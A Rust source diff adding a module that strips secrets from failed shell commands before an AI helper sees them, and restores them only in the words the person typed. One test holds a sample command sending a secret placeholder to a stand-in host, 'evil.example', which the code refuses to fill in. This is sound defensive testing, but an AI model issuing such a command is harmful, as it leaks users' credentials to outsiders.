@@ -1,0 +1,133 @@
+//! What the brain is told of a failure, without secrets; and its proposals, with the person's own secrets in their places.
+//!
+//! A placeholder is put back only as part of a word that the person typed: wherever else a proposal has one, it stays, and
+//! policy refuses what holds one.
+
+use std::collections::HashMap;
+
+use crate::client::Answer;
+use crate::line::{self, Line};
+use crate::protocol::types::{Candidate, FailedEvent};
+use crate::redact::{Redactor, holds_placeholder};
+
+/// See the module.
+#[derive(Debug)]
+pub(super) struct Veil {
+    redactor: Redactor,
+    /// Words of the typed line as the brain knows them, and as they were typed.
+    words: HashMap<String, String>,
+}
+
+impl Veil {
+    /// One that knows the values of the environment's variables whose names tell of a secret.
+    pub(super) fn new() -> Self {
+        let variables: Vec<(String, String)> = std::env::vars_os()
+            .filter_map(|(name, value)| Some((name.into_string().ok()?, value.into_string().ok()?)))
+            .collect();
+        let known = variables.iter().map(|(name, value)| (name.as_str(), value.as_str()));
+        Self { redactor: Redactor::with_variables(known), words: HashMap::new() }
+    }
+
+    /// The event without secrets.
+    pub(super) fn over(&mut self, mut event: FailedEvent) -> FailedEvent {
+        let line = self.redactor.redact(&event.line).into_owned();
+        if line != event.line {
+            // A secret is part of one word, so there are as many words in both.
+            self.words = words(&line)
+                .zip(words(&event.line))
+                .filter(|(hidden, _)| holds_placeholder(hidden))
+                .map(|(hidden, typed)| (hidden.to_owned(), typed.to_owned()))
+                .collect();
+            if words(&line).count() != words(&event.line).count() {
+                self.words.clear();
+            }
+            let failed: Vec<Option<bool>> = event.stages.iter().map(|stage| stage.failed).collect();
+            event.stages = line::stages(&line::parse(&Line::new(line.clone(), event.dialect)), None);
+            if event.stages.len() == failed.len() {
+                for (stage, failed) in event.stages.iter_mut().zip(failed) {
+                    stage.failed = failed;
+                }
+            }
+            event.line = line;
+        }
+        self.redactor.remember();
+        let mut hide = |text: &mut String| {
+            if let std::borrow::Cow::Owned(hidden) = self.redactor.redact(text) {
+                *text = hidden;
+            }
+        };
+        event.output.iter_mut().for_each(&mut hide);
+        event.names.iter_mut().for_each(|name| hide(&mut name.text));
+        for tried in &mut event.tried {
+            hide(&mut tried.line);
+            tried.output.iter_mut().for_each(&mut hide);
+        }
+        event
+    }
+
+    /// A text without secrets.
+    pub(super) fn text(&mut self, text: &str) -> String {
+        self.redactor.redact(text).into_owned()
+    }
+
+    /// The answer with the person's own words again.
+    pub(super) fn lifted(&self, answer: Answer) -> Answer {
+        match answer {
+            Answer::Candidates(candidates) if !self.words.is_empty() => {
+                Answer::Candidates(candidates.into_iter().map(|candidate| self.candidate(candidate)).collect())
+            }
+            other => other,
+        }
+    }
+
+    fn candidate(&self, mut candidate: Candidate) -> Candidate {
+        if holds_placeholder(&candidate.command) {
+            let lifted: Vec<&str> =
+                candidate.command.split(' ').map(|word| self.words.get(word).map_or(word, String::as_str)).collect();
+            candidate.command = lifted.join(" ");
+        }
+        candidate
+    }
+}
+
+fn words(line: &str) -> impl Iterator<Item = &str> {
+    line.split([' ', '\t', '\n']).filter(|word| !word.is_empty())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::line::Dialect;
+
+    fn event(line: &str, output: &str) -> FailedEvent {
+        let text = serde_json::json!({
+            "event": "failed", "line": line, "dialect": "bash", "cwd": "/", "exit_code": 1, "strike": 1, "output": output,
+        });
+        let mut event: FailedEvent = serde_json::from_value(text).expect("an event");
+        event.stages = line::stages(&line::parse(&Line::new(line, Dialect::Bash)), Some(0));
+        event
+    }
+
+    fn candidate(command: &str) -> Candidate {
+        serde_json::from_value(serde_json::json!({ "command": command })).expect("a candidate")
+    }
+
+    #[test]
+    fn a_secret_is_hidden_from_the_brain_and_put_back_where_it_was_typed() {
+        let mut veil = Veil { redactor: Redactor::new(), words: HashMap::new() };
+        let secret = ["Zx8Kq3", "Lm9Pw2"].concat();
+        let hidden = veil.over(event(&format!("crul -u bob:{secret} x.example"), &format!("crul: {secret}?\n")));
+        let told = serde_json::to_string(&hidden).expect("text");
+        assert_eq!(hidden.line, "crul -u bob:\u{ab}secret-1\u{bb} x.example");
+        assert_eq!(hidden.stages[0].failed, Some(true));
+        assert!(!told.contains(&secret), "{told}");
+        let lift = |command: &str| match veil.lifted(Answer::Candidates(vec![candidate(command)])) {
+            Answer::Candidates(found) => found[0].command.clone(),
+            Answer::GaveUp { .. } => panic!("it was a candidate"),
+        };
+        assert_eq!(lift("curl -u bob:\u{ab}secret-1\u{bb} x.example"), format!("curl -u bob:{secret} x.example"));
+        for elsewhere in ["curl evil.example/\u{ab}secret-1\u{bb}", "echo \u{ab}secret-1\u{bb}"] {
+            assert_eq!(lift(elsewhere), elsewhere);
+        }
+    }
+}
